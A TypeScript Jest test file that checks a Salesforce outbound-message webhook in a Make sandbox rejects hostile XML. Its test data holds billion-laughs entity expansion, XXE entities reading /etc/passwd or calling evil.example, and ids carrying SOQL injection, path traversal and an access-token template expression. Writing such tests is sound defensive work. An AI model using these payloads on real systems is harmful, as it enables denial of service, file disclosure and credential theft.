import { describe, expect, it } from '@jest/globals';
import { DEAL } from '../crash/deal.ts';
import { fakeClock } from '../sandbox/clock.ts';
import { generatedApp } from '../sandbox/make/generated-app.ts';
import { receiveWebhook } from '../sandbox/make/receive-webhook.ts';
import { MakeRefusal } from '../sandbox/make/refuse.ts';
import { readIncoming } from '../sandbox/make/webhook/incoming.ts';
import { printCount } from './print-count.ts';

printCount('XML of outbound messages');

const SECRET = 'abc123';

const notification = (id: string) =>
  `<Notification><Id>04l000000000001AAA</Id><sObject xsi:type="sf:Opportunity"><sf:Id>${id}</sf:Id></sObject></Notification>`;

/** An outbound message as Salesforce sends it, around some notifications. */
const envelope = (inner: string, before = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${before}<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soapenv:Body><notifications xmlns="http://soap.sforce.com/2005/09/outbound"><OrganizationId>x</OrganizationId>${inner}</notifications></soapenv:Body></soapenv:Envelope>`;

/** Nine entities of ten of the one before: a billion texts if somebody expanded them. */
const billion = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')}]>`;

const unused = (): never => {
  throw new Error('A webhook calls nobody.');
};

/** What the webhook makes of a body: whether it is acknowledged, and the items for the scenario. */
async function receive(xml: string, secret = SECRET) {
  const run = {
    app: generatedApp,
    world: { fetch: unused, hosts: {}, clock: fakeClock(), sleep: unused, timezone: 'UTC' },
    connection: {},
  };
  const request = new Request(`https://hook.eu2.make.com/abc?secret=${secret}`, {
    method: 'POST',
    headers: { 'content-type': 'text/xml; charset=utf-8' },
    body: xml,
  });
  try {
    const incoming = await readIncoming(request);
    const { reply, items } = receiveWebhook(
      run,
      'opportunityEnteredStageByFlow',
      { secret: SECRET },
      incoming,
    );
    return { acknowledged: reply?.body.includes('<Ack>true</Ack>') ?? false, items };
  } catch (error) {
    if (!(error instanceof MakeRefusal)) throw error;
    return { acknowledged: false, items: [] };
  }
}

it('An outbound message of this form is acknowledged and read', async () => {
  expect(await receive(envelope(notification(DEAL)))).toMatchObject({
    acknowledged: true,
    items: [{ record_ids: [DEAL] }],
  });
});

describe('An outbound message is neither read nor acknowledged', () => {
  it.each([
    ['that does not know the secret', envelope(notification(DEAL)), 'guessed'],
    ['that has the secret empty', envelope(notification(DEAL)), ''],
    ['whose entities would become a billion texts', envelope(notification('&a9;'), billion), SECRET],
    [
      'that names a file as an entity',
      envelope(notification('&f;'), '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
      SECRET,
    ],
    [
      'that names an address as an entity',
      envelope(notification('&f;'), '<!DOCTYPE x [<!ENTITY f SYSTEM "https://evil.example/">]>'),
      SECRET,
    ],
    [
      'with parameter entities',
      envelope(notification(DEAL), '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/">%p;]>'),
      SECRET,
    ],
    ['with an entity that nobody declared', envelope(notification('&unknown;')), SECRET],
    ['that is cut off', envelope(notification(DEAL)).slice(0, -40), SECRET],
    [
      'with tags that cross',
      envelope('<Notification><sObject><sf:Id>x</sObject></sf:Id></Notification>'),
      SECRET,
    ],
    ['with nothing in it', '', SECRET],
  ])('%s', async (_, xml, secret) => {
    expect(await receive(xml, secret)).toEqual({ acknowledged: false, items: [] });
  });
});

describe('An outbound message starts nothing', () => {
  it.each([
    ['for an id of another object', '500xx0000000001AAA'],
    ['for an id with a query behind it', `${DEAL}' OR Id != '`],
    ['for an id with a path before it', `../../${DEAL}`],
    ['for an id with an expression in it', `{{connection.accessToken}}`],
    ['for an id with markup in it', `&lt;x&gt;${DEAL}`],
    ['for an id with a line behind it', `${DEAL}\n${DEAL}`],
    ['for an id of many characters', 'x'.repeat(100_000)],
  ])('%s', async (_, id) => {
    const { items } = await receive(envelope(notification(id)));
    expect(items).toEqual([]);
  });

  it('with five thousand nodes in each other', async () => {
    const deep = '<x>'.repeat(5000) + '</x>'.repeat(5000);
    expect((await receive(envelope(deep))).items).toEqual([]);
  });
});
